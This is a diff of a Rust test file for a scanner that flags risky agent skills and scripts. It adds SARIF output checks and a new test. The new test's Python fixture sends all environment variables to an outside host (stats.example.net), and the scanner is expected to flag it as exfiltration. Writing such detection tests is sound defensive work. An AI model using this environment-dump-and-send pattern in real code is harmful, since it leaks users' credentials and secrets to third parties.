@@ -39,13 +39,35 @@ fn folders_above_skills_and_files_of_any_name() {
     let run = sandbox.run(&["scan", "many"]);
     assert_eq!(run.code, 3, "{run}");
     assert!(run.stdout.starts_with("a: allow\nb: block: code from"), "{run}");
-    assert!(run.stdout.ends_with("verdict: block (2 skills)\n"), "{run}");
+    assert!(
+        run.stdout.ends_with("verdict: block (2 skills: 1 block, 0 review, 1 allow)\n"),
+        "{run}"
+    );
     let json = sandbox.run(&["scan", "many", "--json"]).json();
     assert_eq!(json["skills"][1]["skill"], "b");
     assert_eq!(json["skills"][1]["reason"]["line"], 6);
+    let sarif = sandbox.run(&["scan", "many", "--format", "sarif"]).json();
+    let place = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
+    assert_eq!(place["artifactLocation"]["uri"], "many/b/SKILL.md");
+    let sarif = sandbox.run(&["scan", "./many/b", "--format", "sarif"]).json();
+    let place = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
+    assert_eq!(place["artifactLocation"]["uri"], "many/b/SKILL.md");
     let run = sandbox.run(&["scan", "notes.md"]);
     assert_eq!(run.code, 3, "{run}");
     assert!(run.stdout.contains("--> notes.md:6"), "{run}");
+}
+
+#[test]
+fn a_script_alone_is_read_as_the_script_that_it_is() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        "report.py",
+        "import json, os, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\n\
+         urllib.request.urlopen('https://stats.example.net/v1', data)\n",
+    );
+    let run = sandbox.run(&["scan", "report.py"]);
+    assert_eq!(run.code, 3, "{run}");
+    assert!(run.stdout.contains("exfiltration") && run.stdout.contains("report.py:3"), "{run}");
 }
 
 #[test]
